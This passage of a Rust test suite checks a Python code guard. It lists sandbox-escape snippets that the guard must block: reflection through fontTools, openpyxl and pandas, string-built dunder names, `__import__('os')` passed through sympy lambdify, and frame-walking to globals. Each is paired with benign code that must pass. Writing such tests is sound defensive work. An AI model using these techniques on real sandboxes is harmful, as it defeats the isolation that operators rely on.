        "from fontTools import ttLib\nttLib.registerCustomTableClass('ABCD', 'o' + 's', 'system')",
        "reflection",
        "from fontTools import ttLib\nttLib.registerCustomTableClass('ZZZZ', 'fontTools.ttLib.tables._n_a_m_e', 'table__n_a_m_e')",
    ),
    (
        "fontTools' custom table registry hands back a dunder",
        "from fontTools import ttLib\nttLib.registerCustomTableClass('ABCD', 'numpy', '__builtins__')",
        "reflection",
        "from fontTools import ttLib\nprint(ttLib.getTableClass('name'))",
    ),
    (
        "fontTools' custom table registry written directly",
        "from fontTools.ttLib import ttFont\nttFont._customTableRegistry['ABCD'] = (m, c)",
        "reflection",
        "from fontTools.ttLib import ttFont\nprint(ttFont.tagToIdentifier('glyf'))",
    ),
    (
        "the SING table evaluates METAMD5 when saved",
        "from fontTools.ttLib import newTable\nt = newTable('SING')\nt.METAMD5 = s",
        "blocked_attribute",
        "from fontTools.ttLib import newTable\nt = newTable('SING')\nt.baseGlyphName = 'a'",
    ),
    (
        "a pen recording replayed on any object",
        "from fontTools.pens.recordingPen import RecordingPen\nr = RecordingPen()\nr.value.append((op, args))\nr.replay(obj)",
        "reflection",
        "from fontTools.pens.recordingPen import RecordingPen\nr = RecordingPen()\nr.moveTo((0, 0))\nr.lineTo((1, 1))\nprint(r.value)",
    ),
    (
        "fontTools installs a function under the name it carries",
        "from fontTools.merge.base import add_method\nadd_method(C)(d)",
        "reflection",
        "from fontTools.merge import Merger\nm = Merger()",
    ),
    (
        "fontTools' charstring specializer calls methods by operator name",
        "from fontTools.cffLib.specializer import generalizeCommands\nc = generalizeCommands([(op, [1])])",
        "reflection",
        "from fontTools.pens.t2CharStringPen import T2CharStringPen\np = T2CharStringPen(100, None)\np.moveTo((0, 0))\nprint(p.getCharString().program)",
    ),
    (
        "fontTools' command line runs any module's main",
        "from fontTools.__main__ import main\nmain([name])",
        "blocked_module",
        "import fontTools\nprint(fontTools.version)",
    ),
    (
        "openpyxl's Alias with a name built at run time",
        "from openpyxl.descriptors.base import Alias\na = Alias('__glob' + 'als__')",
        "reflection",
        "from openpyxl.descriptors.base import Alias\nclass Cell:\n    value = Alias('v')\n",
    ),
    (
        "openpyxl's Alias naming a dunder",
        "from openpyxl.descriptors.base import Alias\na = Alias('__globals__')",
        "reflection",
        "import openpyxl\nwb = openpyxl.Workbook()\nws = wb.active\nws['A1'] = 3\nprint(ws['A1'].value, ws['A1'].font.u)",
    ),
    (
        "a descriptor's __get__ called by hand",
        "from openpyxl.styles.fonts import Font\nd = D()\nv = d.__get__(obj, None)",
        "reflection",
        "from openpyxl.styles.fonts import Font\nf = Font(bold=True)\nprint(f.b, f.bold)",
    ),
    (
        "a property's getter called by hand with a foreign self",
        "from openpyxl.styles.colors import Color\nf.type = name\ng = Color.value.fget(f)",
        "reflection",
        "from openpyxl.styles.colors import Color\nc = Color(rgb='00FF0000')\nprint(c.value)",
    ),
    (
        "openpyxl's BoundDictionary sets the attribute a string names",
        "from openpyxl.utils.bound_dictionary import BoundDictionary\nd = BoundDictionary(name, C)",
        "reflection",
        "from openpyxl.utils.bound_dictionary import BoundDictionary\nd = BoundDictionary('index', list)",
    ),
    (
        "ufoLib2's objects read any attribute by key",
        "from ufoLib2.objects import Image\ng = Image.__getitem__(f, name)",
        "blocked_module",
        "from fontTools.ufoLib import UFOReader\nprint(UFOReader)",
    ),
    (
        "numba's internal modules under their package, ordinary words elsewhere",
        "import numba\nctx = numba.core.cpu.CPUContext",
        "module_reexport",
        "t = model.cpu()\nprint(cfg.experimental, run.tracing, st.caching)",
    ),
    (
        "llvmlite's JIT",
        "import llvmlite.binding as llvm\nllvm.create_mcjit_compiler(m, t)",
        "blocked_module",
        "import numba\nprint(numba.__version__)",
    ),
];

#[test]
fn packages_outside_the_data_stack_block_computed_uses_and_allow_literal_ones() {
    assert_cases_block_and_allow(OUTSIDE_DATA_STACK);
}

/// The sinks of these packages that take a name or code as a string.
fn outside_sinks(n: &str) -> Vec<String> {
    vec![
        format!("numba.njit({n})(f)"),
        format!("numba.jit({n})(f)"),
        format!("numba.vectorize([{n}])(f)"),
        format!("numba.guvectorize([{n}], '(n)->(n)')(f)"),
        format!("f.inspect_llvm({n})"),
        format!("types.ExternalFunction({n}, sig)"),
        format!("ttLib.registerCustomTableClass('ABCD', {n})"),
        format!("ttLib.registerCustomTableClass('ABCD', 'numpy', {n})"),
        format!("Alias({n})"),
        format!("BoundDictionary({n}, list)"),
    ]
}

const OUTSIDE_PRELUDE: &str = "import codecs\nimport numba\nfrom numba import types\n\
from fontTools import ttLib\nfrom openpyxl.descriptors.base import Alias\n\
from openpyxl.utils.bound_dictionary import BoundDictionary\n";

#[test]
fn built_names_reach_no_sink_of_these_packages() {
    for target in TARGETS {
        for expr in builders(target) {
            for via in [false, true] {
                let (setup, n) = if via {
                    (format!("name = {expr}\n"), "name".to_string())
                } else {
                    (String::new(), format!("({expr})"))
                };
                for call in outside_sinks(&n) {
                    let src = format!("{OUTSIDE_PRELUDE}{setup}{call}\n");
                    let v = check_with_deadline(src.clone());
                    assert_eq!(v.decision, Decision::Blocked, "not blocked:\n{src}\n{v:#?}");
                    assert!(!v.retryable_error, "not judged:\n{src}\n{v:#?}");
                }
            }
        }
    }
}

// ---- names the code binds itself ------------------------------------------------------

/// API names from the policy that ordinary code also uses for its own
/// variables, functions and parameters.
const API_NAMES: &[&str] = &[
    "S",
    "locate",
    "replay",
    "agg",
    "aggregate",
    "apply",
    "transform",
    "sympify",
    "optimizer",
    "compiler",
    "ir",
    "preview",
    "import_string",
    "resolve_name",
];

/// Each API name, used where this code binds nothing of that name, is still
/// judged as the API: the renaming test below could fail.
#[test]
fn api_names_unbound_by_the_code_are_still_judged() {
    for name in ["S", "locate", "replay", "agg", "sympify", "import_string"] {
        let v = check(&format!("x = input()\ny = {name}(x)\nz = [{name}]"));
        assert_eq!(v.decision, Decision::Blocked, "{name}: {v:#?}");
    }
}

/// The identifiers a module binds itself (assignment, loop, comprehension and
/// `with`/`except` variables, `def`, `class`, parameters), with the byte
/// ranges of every place they are spelled as a name; imported names are left
/// out (renaming them would change what the code imports).
fn own_identifiers(src: &str) -> std::collections::BTreeMap<String, Vec<(usize, usize)>> {
    use ruff_python_ast::visitor::{self, Visitor};
    use ruff_python_ast::{self as ast, Expr, Stmt};
    use ruff_text_size::Ranged;

    #[derive(Default)]
    struct Names {
        bound: std::collections::BTreeSet<String>,
        imported: std::collections::BTreeSet<String>,
        spots: std::collections::BTreeMap<String, Vec<(usize, usize)>>,
    }
    impl Names {
        fn spot(&mut self, name: &str, r: ruff_text_size::TextRange) {
            self.spots
                .entry(name.to_string())
                .or_default()
                .push((r.start().to_usize(), r.end().to_usize()));
        }
    }
    impl<'a> Visitor<'a> for Names {
        fn visit_stmt(&mut self, s: &'a Stmt) {
            match s {
                Stmt::FunctionDef(f) => {
                    self.bound.insert(f.name.to_string());
                    self.spot(f.name.as_str(), f.name.range());
                }
                Stmt::ClassDef(c) => {
                    self.bound.insert(c.name.to_string());
                    self.spot(c.name.as_str(), c.name.range());
                }
                Stmt::Import(i) => {
                    for a in &i.names {
                        let n = a.asname.as_ref().unwrap_or(&a.name);
                        self.imported
                            .insert(n.split('.').next().unwrap().to_string());
                    }
                }
                Stmt::ImportFrom(i) => {
                    for a in &i.names {
                        self.imported
                            .insert(a.asname.as_ref().unwrap_or(&a.name).to_string());
                    }
                }
                _ => {}
            }
            visitor::walk_stmt(self, s);
        }
        fn visit_expr(&mut self, e: &'a Expr) {
            if let Expr::Name(n) = e {
                if n.ctx == ast::ExprContext::Store {
                    self.bound.insert(n.id.to_string());
                }
                self.spot(n.id.as_str(), n.range());
            }
            visitor::walk_expr(self, e);
        }
        fn visit_parameter(&mut self, p: &'a ast::Parameter) {
            self.bound.insert(p.name.to_string());
            self.spot(p.name.as_str(), p.name.range());
            visitor::walk_parameter(self, p);
        }
        fn visit_except_handler(&mut self, h: &'a ast::ExceptHandler) {
            let ast::ExceptHandler::ExceptHandler(inner) = h;
            if let Some(n) = &inner.name {
                self.bound.insert(n.to_string());
                self.spot(n.as_str(), n.range());
            }
            visitor::walk_except_handler(self, h);
        }
    }
    let module = ruff_python_parser::parse_module(src).unwrap().into_syntax();
    let mut names = Names::default();
    for s in &module.body {
        names.visit_stmt(s);
    }
    let Names {
        bound,
        imported,
        mut spots,
    } = names;
    spots.retain(|n, _| {
        bound.contains(n) && !imported.contains(n) && !n.starts_with("__") && n != "self"
    });
    spots
}

/// `src` with every spot of one identifier spelled `to`.
fn renamed(src: &str, spots: &[(usize, usize)], to: &str) -> String {
    let mut spots = spots.to_vec();
    spots.sort_unstable();
    spots.dedup();
    let mut out = String::with_capacity(src.len());
    let mut at = 0;
    for (start, end) in spots {
        out.push_str(&src[at..start]);
        out.push_str(to);
        at = end;
    }
    out.push_str(&src[at..]);
    out
}

/// The byte ranges of the module-level `with` statements of `src`.
fn module_with_blocks(src: &str) -> Vec<(usize, usize)> {
    use ruff_text_size::Ranged;
    let module = ruff_python_parser::parse_module(src).unwrap().into_syntax();
    module
        .body
        .iter()
        .filter(|s| matches!(s, ruff_python_ast::Stmt::With(_)))
        .map(|s| (s.range().start().to_usize(), s.range().end().to_usize()))
        .collect()
}

/// Renaming any identifier the benign corpus binds itself to an API name of
/// the policy adds no refusal: a name the code binds is that binding.
///
/// Left out, on purpose: a name bound only inside a module-level `with`
/// block. After the block it may still hold what an earlier call of the
/// session left under that name (a context manager can swallow the
/// exception that skipped the binding), so the guard keeps judging it as
/// the API it is spelled like.
#[test]
fn benign_corpus_renamed_to_api_names_stays_allowed() {
    let mut failures = Vec::new();
    let mut tried = 0;
    let mut left_out = std::collections::BTreeSet::new();
    for (file, bytes) in corpus_files("benign") {
        let src = String::from_utf8(bytes).unwrap();
        let blocks = module_with_blocks(&src);
        let inside = |at: usize| blocks.iter().any(|&(s, e)| s <= at && at < e);
        for (ident, spots) in own_identifiers(&src) {
            let bound_at: Vec<usize> = src
                .match_indices(&format!("{ident} = "))
                .map(|(i, _)| i)
                .collect();
            if !bound_at.is_empty()
                && bound_at.iter().all(|&i| inside(i))
                && spots.iter().any(|&(s, _)| !inside(s))
            {
                left_out.insert(format!("{file}:{ident}"));
                continue;
            }
            for api in API_NAMES {
                // A name the file already uses would merge two bindings.
                if src.contains(api) {
                    continue;
                }
                tried += 1;
                let v = check(&renamed(&src, &spots, api));
                if v.decision != Decision::Allowed {
                    failures.push(format!("{file}: `{ident}` -> `{api}`: {:?}", rules(&v)));
                }
            }
        }
    }
    assert!(tried > 1000, "only {tried} renamings");
    assert!(left_out.len() <= 6, "left out: {left_out:?}");
    assert!(
        failures.is_empty(),
        "{} of {tried}:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// A name the code binds is that binding only where the binding is certain
/// to be in effect; elsewhere it may be what an earlier call of the session
/// left under the name (`from sympy import S` in one call, `S(code)` in the
/// next), and the API rules still apply.
#[test]
fn own_bindings_count_only_where_certain() {
    for src in [
        "x = input()\nif False:\n    S = 1\nS(x)",
        "x = input()\nS(x)\nS = 1",
        "x = input()\nfor i in range(2):\n    S(x)\n    S = 1",
        "x = input()\ndef f():\n    global S\n    if x:\n        S = 1\n    return S(x)",
        "x = input()\ndef f():\n    return S(x)\nS = 1",
        "import contextlib\nx = input()\nwith contextlib.suppress(Exception):\n    S = 1 / 0\nS(x)",
        "x = input()\ntry:\n    S = 1\nexcept Exception:\n    pass\nS(x)",
        "x = input()\ndef f():\n    from sympy import S\n    return S(x)",
        "x = input()\nif x or (S := 1):\n    S(x)",
        "x = input()\n[S(x) for i in range(2)]\nS = 1",
        "from sympy import S\nx = input()\nS(x)",
        "x = input()\nclass K:\n    S = 1\n    def m(self):\n        return S(x)",
        "x = input()\nS = 1\nfrom sympy import S\nS(x)",
        "x = input()\nS = 1\nfor i in range(2):\n    S(x)\n    from sympy import S",
        "x = input()\ndef g():\n    global S\n    from sympy import S\nS = 1\ng()\nS(x)",
        "x = input()\nS = 1\ndef f():\n    return S(x)\nfrom sympy import S\nf()",
    ] {
        assert_blocked(src, "code_string");
    }
    for src in [
        "x = input()\nlocate(x)\ndef locate(v):\n    return v",
        "x = input()\nif x:\n    def locate(v):\n        return v\nlocate(x)",
    ] {
        assert_blocked(src, "reflection");
    }
    for src in [
        "import numpy as np\nS = np.eye(2)\nprint(np.linalg.inv(S))",
        "import numpy as np\ndef f(S):\n    return np.linalg.inv(S)",
        "def locate(v):\n    return v\nprint(locate('a'))",
        "x = input()\nif x:\n    S = 1\n    print(S + 1)",
        "fs = [abs]\nprint([S(-1) for S in fs])",
        "x = input()\nif (n := len(x)) > 2:\n    print(n)",
        "import pandas as pd\ndf = pd.DataFrame({'v': [1]})\nfor agg in ['sum', 'max']:\n    print(df['v'].agg(agg))",
        "from sympy import S\nprint(S(1) / 2, S(-3))",
        "from sympy import S\nimport numpy as np\nS = np.eye(2)\nprint(np.linalg.inv(S))",
        "from sympy import S\nimport numpy as np\ndef f(S):\n    return np.linalg.inv(S)",
    ] {
        assert_allowed(src);
    }
}

#[test]
fn literal_forms_judged_as_the_literal_they_are() {
    for (src, rule) in [
        (
            "s = 1\nfor n in ('mean', '__class__'):\n    getattr(s, n)",
            "reflection",
        ),
        (
            "s = 1\nfor n in ('mean', 'median'):\n    n = input()\n    getattr(s, n)",
            "reflection",
        ),
        (
            "s = 1\nfor n in ('mean', 'median'):\n    def f(n):\n        return getattr(s, n)",
            "reflection",
        ),
        (
            "s = 1\nnames = ('mean',)\nfor n in names:\n    getattr(s, n)",
            "reflection",
        ),
        (
            "s = 1\n[getattr(s, n) for n in ('a', 'b') for n in input()]",
            "reflection",
        ),
        (
            "import string\nfmt = string.Formatter()\nt = input()\nfmt.format(t, 1)",
            "format_field",
        ),
        (
            "import string\nif input():\n    fmt = string.Formatter()\nfmt.format('{0}', 1)",
            "format_field",
        ),
        (
            "import string\nclass F(string.Formatter):\n    pass\nfmt = F()\nfmt.format('{0}', 1)",
            "format_field",
        ),
        ("df = 1\nt = input()\ndf.style.format(t)", "format_field"),
        ("df = 1\ndf.style.format(subset=print)", "format_field"),
        ("df = 1\ndf.style.format(formatter=input())", "format_field"),
        ("x = 1\nprint(x.__class__.__base__)", "internals_attribute"),
        (
            "x = 1\nprint(x.__class__.__name__.__class__)",
            "internals_attribute",
        ),
        (
            "class C:\n    def m(self):\n        return self.compiler\nC.m(x)",
            "module_reexport",
        ),
        (
            "class C:\n    def m(self):\n        if input():\n            self.compiler = 1\n        return self.compiler\nC.m(x)",
            "module_reexport",
        ),
        (
            "class C:\n    def m(self, other):\n        other.compiler = 1\n        return other.compiler",
            "module_reexport",
        ),
    ] {
        assert_blocked(src, rule);
    }
    for src in [
        "import statistics\nfor n in ('mean', 'median'):\n    print(getattr(statistics, n)([1, 2]))",
        "import statistics\nprint({n: getattr(statistics, n)([1, 2]) for n in ('mean', 'median')})",
        "import string\nfmt = string.Formatter()\nprint(fmt.format('{0} {x}', 1, x=2))",
        "df = 1\ndf.style.format(precision=2, na_rep='-', thousands=',')",
        "class C:\n    def __repr__(self):\n        return self.__class__.__name__",
        "class C:\n    def __init__(self):\n        self.compiler = 'gcc'\n        self.ir = []\n        print(self.ir)",
    ] {
        assert_allowed(src);
    }
}

/// `f.locate(...)` on an instance of the code's own sealed class that defines `locate`
/// is that method, not `pydoc.locate`; `**json.load(f)` is plain data as when named.
#[test]
fn own_methods_and_plain_data_are_not_library_apis() {
    let class = "class Finder:\n    def locate(self, x):\n        return x\n    def replay(self):\n        return self.locate('y')\n";
    for ok in [
        "f = Finder()\nprint(f.locate(1), f.replay())",
        "def use():\n    g = Finder()\n    return g.locate(2)\nprint(use())",
    ] {
        assert_allowed(&format!("{class}{ok}"));
    }
    assert_allowed(
        "import json\nfrom types import SimpleNamespace\nwith open('c.json') as f:\n    ns = SimpleNamespace(**json.load(f))\nprint(ns)",
    );
    for leak in [
        "f = Finder()\nf = pydoc\nf.locate('os')",
        "f = Finder()\ndef g(f):\n    return f.locate('os')\ng(pydoc)",
        "if input():\n    f = pydoc\nf = Finder()\nf.locate('os')",
        "f.locate('os')\nf = Finder()",
        "Finder.replay(pydoc)",
        // a class statement rebinds the name: `f` is no longer an instance
        "f = Finder()\nclass f(Lib):\n    pass\nf.locate('os')",
    ] {
        // `pydoc` itself may come from an earlier call: its import is not needed.
        assert_finds(&format!("{class}{leak}"), "reflection");
    }
    for ok in [
        "import pandas as pd\ndf = pd.DataFrame({'a': [1.0]})\nprint(df.style.format('{:.1f}', subset=['a']).to_html()[:5])",
        "import pandas as pd\ndf = pd.DataFrame({'a': [1.0]})\ndf.style.format({'a': '{:.2%}'}, na_rep='-')",
        "import pandas as pd\ndf = pd.DataFrame({'a': [1.0]})\ndf.style.format(formatter='{:,.0f}')",
        "from types import SimpleNamespace\nd = {'lr': 0.1}\nd['epochs'] = 3\nprint(SimpleNamespace(**d).epochs)",
    ] {
        assert_allowed(ok);
    }
    for (src, rule) in [
        (
            "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf.style.format({'a': input()})",
            "format_field",
        ),
        (
            "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf.style.format('{0.__class__}')",
            "format_field",
        ),
        (
            "from types import SimpleNamespace\nd = {'a': 1}\nd['__array_interface__'] = 2\nSimpleNamespace(**d)",
            "reflection",
        ),
        (
            "from types import SimpleNamespace\nd = {'a': 1}\nd[input()] = 2\nSimpleNamespace(**d)",
            "reflection",
        ),
    ] {
        assert_blocked(src, rule);
    }
    let shadowed = "class Finder:\n    def locate(self, x):\n        return x\n    locate = pydoc.locate\nf = Finder()\nf.locate('os')";
    assert_finds(shadowed, "reflection");
}

/// `self.optimizer` read in any method of the code's own class is the code's own
/// attribute while the class object never gets out (a method reached through its class
/// gets whatever `self` it is given, `jinja2` included).
#[test]
fn own_class_attributes_are_the_codes_own_while_the_class_stays_sealed() {
    let class = "import jinja2\nclass Model:\n    def __init__(self):\n        self.optimizer = 'adam'\n    def describe(self):\n        return self.optimizer\n";
    for leak in [
        "Model.describe(jinja2)",
        "type(Model()).describe(jinja2)",
        "Model().__class__.describe(jinja2)",
        "Model().describe.__func__(jinja2)",
        "M = Model\nM.describe(jinja2)",
        "for c in [Model]:\n    c.describe(jinja2)",
        "class Sub(Model):\n    pass\nSub.describe(jinja2)",
        "def g(m: Model):\n    pass\ng.__annotations__['m'].describe(jinja2)",
        "def h(Model):\n    return Model.describe(jinja2)",
        "print('Model')",
        "import __main__\n__main__.Model.describe(jinja2)",
        "globals()['Mo' + 'del'].describe(jinja2)",
        "class D:\n    def __set_name__(self, owner, name):\n        owner.describe(jinja2)",
        "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n    e.__traceback__.tb_frame.f_globals",
    ] {
        assert_finds(
            &format!("{class}{leak}\nprint(Model().describe())"),
            "module_reexport",
        );
    }
    for (how, src) in [
        (
            "a library base",
            "import jinja2\nclass Model(jinja2.Environment):\n    def describe(self):\n        return self.optimizer",
        ),
        (
            "a class method hands out the class",
            "import jinja2\nclass Model:\n    @classmethod\n    def make(cls):\n        return cls.describe(jinja2)\n    def describe(self):\n        return self.optimizer\nModel().make()",
        ),
        (
            "a method handed on from the class body",
            "import jinja2\nclass Model:\n    def describe(self):\n        return self.optimizer\n    fns = [describe]\nModel().fns[0](jinja2)",
        ),
        (
            "a lambda's own `self`",
            "import jinja2\nclass Model:\n    def describe(self):\n        self.optimizer = 1\n        return (lambda self: self.optimizer)(jinja2)",
        ),
        (
            "an unknown decorator receives the function",
            "import jinja2, functools\nclass Model:\n    @functools.wraps(print)\n    def describe(self):\n        return self.optimizer",
        ),
    ] {
        assert!(
            rules(&check(src)).contains(&"module_reexport"),
            "{how}: {src}: {:?}",
            rules(&check(src))
        );
    }
    for src in [
        "class Model:\n    def __init__(self):\n        self.optimizer = 'adam'\n        self.compiler = None\n        self.ir = 1\n        self.preview = True\n    def describe(self):\n        return f'{self.optimizer} {self.compiler} {self.ir} {self.preview} {self.__class__.__name__}'\nprint(Model().describe())",
        "from dataclasses import dataclass\n@dataclass\nclass P:\n    compiler: str\n    def show(self):\n        return self.compiler\nclass Q(P):\n    def again(self):\n        return [self.compiler for _ in range(2)]\np = Q('gcc')\nprint(p.show(), p.again(), isinstance(p, (P, Q)), type(p).__name__, type(p) is Q)",
        "class Base:\n    @property\n    def optimizer(self):\n        return 'sgd'\nclass Net(Base):\n    def step(self):\n        return self.optimizer\nprint(Net().step())",
    ] {
        assert_allowed(src);
    }
}

/// A string reaches `df.agg` (which calls the method it names) or `lambdify` (which
/// pastes it into source) through a name: what the guard can follow back to where the
/// string is written is judged there, and what it cannot follow is refused.
#[test]
fn strings_passed_on_through_names_and_helpers_are_judged_where_written() {
    let head = "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\n";
    let blocked = [
        // a name assigned a literal, a loop over a literal display
        "h = '__getattribute__'\ndf.agg(h, 0, 'a')",
        "for h in ['mean', '__getattribute__']:\n    df.agg(h)",
        // a helper's parameter, at its calls: positional, keyword, default, nested
        "def s(how):\n    return df.agg(how)\ns('__getattribute__')",
        "def s(how):\n    return df.agg(how)\ns(how='__getattribute__')",
        "def s(how='__getattribute__'):\n    return df.agg(how, 0, 'a')\ns()",
        "def i(how):\n    return df.agg(how)\ndef o(h):\n    return i(h)\no('__getattribute__')",
        "def o(how):\n    def i():\n        return df.agg(how)\n    return i()\no('__getattribute__')",
        "class R:\n    def s(self, how):\n        return df.agg(how)\nR().s('__getattribute__')",
        "class R:\n    def s(self, how):\n        return df.agg(how)\nR.s(R(), '__getattribute__')",
        "class R:\n    @classmethod\n    def s(cls, how):\n        return df.agg(how)\nR.s('__getattribute__')",
        // a helper the guard cannot follow to its calls
        "def s(how):\n    return df.agg(how)\nlist(map(s, ['mean']))",
        "def s(how):\n    return df.agg(how)\nargs = ['mean']\ns(*args)",
        "def s(how):\n    return df.agg(how)\nh = input()\ns(h + '')",
        "g = lambda how: df.agg(how)",
        // every assignment counts, a later one too (a loop runs it first)
        "h = 'mean'\nfor i in range(2):\n    df.agg(h)\n    h = '__getattribute__'",
    ];
    for code in blocked {
        let v = check(&format!("{head}{code}"));
        assert_eq!(v.decision, Decision::Blocked, "{code}\n{v:#?}");
        assert!(rules(&v).contains(&"reflection"), "{code}: {:?}", rules(&v));
    }
    let allowed = [
        "h = 'mean'\ndf.agg(h)",
        "for h in ('mean', 'sum'):\n    df.agg(h)",
        "def s(frame, how='mean'):\n    return frame.agg(how)\ns(df)\ns(df, 'max')\nfor h in ['min']:\n    s(df, h)",
        "def s(how):\n    return df.agg(how)\nimport numpy as np\ns(np.sum)",
        "class R:\n    def s(self, how='sum'):\n        return df.agg(how)\nR().s('mean')\nR.s(R(), 'max')",
        "def apply_all(fn):\n    return df.apply(fn)\napply_all(lambda c: c * 2)",
    ];
    assert_decisions(head, &allowed, Decision::Allowed);
    let v = check(
        "import sympy\nx = sympy.Symbol('x')\ndef mk(e):\n    return sympy.lambdify(x, e)\nmk('__import__(\"os\")')",
    );
    assert_eq!(v.decision, Decision::Blocked, "{v:#?}");
}

/// `df.query(f"...")` is judged as every text the f-string can make, when each field is
/// a literal, a number or a name this code assigns only literals (a loop over a literal
/// display included); anything else in a field is refused, as a computed string is.
#[test]
fn query_fstrings_are_judged_as_the_texts_they_make() {
    let head = "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\n";
    let allowed = [
        "limit = 2\ncol = 'a'\ndf.query(f'{col} > {limit}')",
        "for y in (2020, 2021):\n    df.query(f'a == {y}')",
        "for c in ['a', 'b']:\n    df.query(f'{c} > 0 and {c} < 9')",
        "limit = 2.5\ndf.query(f'a > {limit:.1f}')",
        "name = 'x'\ndf.query(f'a == {name!r}')",
        "df.query(f'a > {3}')",
    ];
    assert_decisions(head, &allowed, Decision::Allowed);
    let blocked = [
        "col = \"__import__('os').system('x')\"\ndf.query(f'{col} > 1')",
        "col = input()\ndf.query(f'{col} > 1')",
        "col = 'a'\nif len(df) > 5:\n    col = 'a.__class__'\ndf.query(f'{col} > 1')",
        "def f():\n    return df.query(f'a > {limit}')\nlimit = 1\nf()",
        "df.query(f'a > {len(df)}')",
        "df.query(f'{\"gi_f\"}{\"rame\"} > 1')",
        "col = 'a'\ndf.query(f'{col:>3} > 1')",
        "for c in ['a', 'b.__class__']:\n    df.query(f'{c} > 0')",
    ];
    assert_decisions(head, &blocked, Decision::Blocked);
}

/// `SimpleNamespace(**d)` (and Rbf, BaseIndexer) make every key of `d` an attribute: `d`
/// passes only while its keys are known, from `json.load`/`json.loads` or a dict display
/// whose literal keys are names `obj.name` may read, and nothing in the code may change it.
#[test]
fn a_mapping_given_as_attributes_keeps_the_keys_the_guard_read() {
    let head = "import json\nfrom types import SimpleNamespace\n";
    let blocked = [
        "kw = {'__array_interface__': {}}\nSimpleNamespace(**kw)",
        "kw = {'a': 1}\nk = '__array_' + 'interface__'\nkw[k] = {}\nSimpleNamespace(**kw)",
        "kw = {'a': 1}\nkw.update(zip(['x'], [1]))\nSimpleNamespace(**kw)",
        "kw = {'a': 1}\ndef f(d):\n    d['x'] = 1\nf(kw)\nSimpleNamespace(**kw)",
        "kw = {'a': 1}\nalias = kw\nSimpleNamespace(**kw)",
        "from scipy.interpolate import Rbf\nkw = {'__array_interface__': {}}\nRbf([0, 1], [0, 1], **kw)",
    ];
    assert_decisions(head, &blocked, Decision::Blocked);
    let allowed = [
        "cfg = json.loads('{\"a\": 1}')\nprint(cfg['a'], cfg.get('a'))\nns = SimpleNamespace(**cfg)",
        "cfg = {'a': 1, 'b': 2}\nfor k, v in cfg.items():\n    print(k, v)\nns = SimpleNamespace(**cfg)",
    ];
    assert_decisions(head, &allowed, Decision::Allowed);
}

/// A template a function assigns itself, only ever a literal, is read: the local is the
/// function's whatever an earlier call left.
#[test]
fn a_functions_own_literal_template_is_read() {
    let ok = "def report(name, value):\n    template = '{name}: {value:.1f}'\n    return template.format(name=name, value=value)\nprint(report('a', 1))";
    assert_eq!(check(ok).decision, Decision::Allowed, "{:#?}", check(ok));
    let bad = [
        "def report(x):\n    template = '{0.__class__}'\n    return template.format(x)",
        "def report(x, template):\n    return template.format(x)",
        "def report(x):\n    template = x.upper()\n    return template.format(x)",
        "template = '{0}'\ndef report(x):\n    return template.format(x)\ntemplate = input()",
    ];
    assert_decisions("", &bad, Decision::Blocked);
}

/// Each of `codes`, after `head`, gets `decision` from the guard.
fn assert_decisions(head: &str, codes: &[&str], decision: Decision) {
    for code in codes {
        let v = check(&format!("{head}{code}"));
        assert_eq!(v.decision, decision, "{code}\n{v:#?}");
    }
}

// ---- policy tiers -------------------------------------------------------------------

fn tier_guard(tier: Tier) -> Guard {
    PolicyChoice::Tier(tier).guard().unwrap()
}

/// Every escape the corpora hold: the red-team cases and the bypass programs.
fn escapes() -> Vec<(String, Vec<u8>)> {
    let mut all = corpus_files("redteam");
    all.extend(corpus_files("bypass"));
    all.extend(corpus_files("bypass-memory"));
    all
}

/// Each tier against both corpora: the benign corpus passes untouched under default and
/// data-science and strict refuses more of it; no tier lets through the guard an escape
/// the default stops.
#[test]
fn policy_tiers_against_both_corpora() {
    let c = ctx();
    let benign = corpus_files("benign");
    let default = tier_guard(Tier::Default);
    let stopped_by_default: Vec<_> = escapes()
        .into_iter()
        .filter(|(_, b)| default.check(b, &c).decision == Decision::Blocked)
        .collect();
    assert!(
        stopped_by_default.len() >= 60,
        "{}",
        stopped_by_default.len()
    );
    for tier in Tier::ALL {
        let g = tier_guard(tier);
        let refused: Vec<&str> = benign
            .iter()
            .filter(|(_, b)| {
                let v = g.check(b, &c);
                v.decision != Decision::Allowed || !v.findings.is_empty()
            })
            .map(|(n, _)| n.as_str())
            .collect();
        match tier {
            Tier::Strict => {
                assert!(refused.len() >= 10, "strict refuses only {refused:?}");
                assert!(refused.iter().any(|n| n.contains("pandas")), "{refused:?}");
            }
            Tier::Default | Tier::DataScience => {
                assert!(refused.is_empty(), "{}: {refused:?}", tier.name());
            }
        }
        for (name, bytes) in &stopped_by_default {
            let v = g.check(bytes, &c);
            assert_eq!(
                v.decision,
                Decision::Blocked,
                "{} lets {name} through:\n{v:#?}",
                tier.name()
            );
        }
    }
}

#[test]
fn the_strict_tier_allows_only_its_list() {
    let g = tier_guard(Tier::Strict);
    let c = ctx();
    for allowed in [
        "import math, json, csv\nfrom collections import Counter",
        "from collections.abc import Mapping\nimport datetime as dt",
        "from pathlib import Path\nprint(Path('x.csv').exists())",
    ] {
        let v = g.check(allowed.as_bytes(), &c);
        assert_eq!(v.decision, Decision::Allowed, "{allowed}: {v:#?}");
    }
    for (refused, module) in [
        ("import numpy as np", "numpy"),
        ("from pandas import DataFrame", "pandas"),
        ("import threading", "threading"),
        ("from xml.etree import ElementTree", "xml"),
        ("import sklearn", "sklearn"),
    ] {
        let v = g.check(refused.as_bytes(), &c);
        assert_eq!(v.decision, Decision::Blocked, "{refused}: {v:#?}");
        assert_eq!(rules(&v), vec!["blocked_module"], "{refused}: {v:#?}");
        let message = &v.findings[0].message;
        assert!(message.contains("allow_only"), "{message}");
        assert!(message.contains(&format!("`{module}`")), "{message}");
    }
    // The default's own blocks keep their own reasons.
    let v = g.check(b"import os", &c);
    assert!(v.findings[0].message.contains("pathlib"), "{v:#?}");
}

#[test]
fn the_data_science_tier_imports_single_names_never_the_module() {
    let g = tier_guard(Tier::DataScience);
    let c = ctx();
    let ok = "from os import makedirs, getcwd\nfrom os.path import join, exists, getsize\n\
              from sys import version, getsizeof\nmakedirs('out', exist_ok=True)\n\
              print(getcwd(), exists(join('out', 'x.csv')), version, getsizeof([]))\n";
    let v = g.check(ok.as_bytes(), &c);
    assert_eq!(v.decision, Decision::Allowed, "{v:#?}");
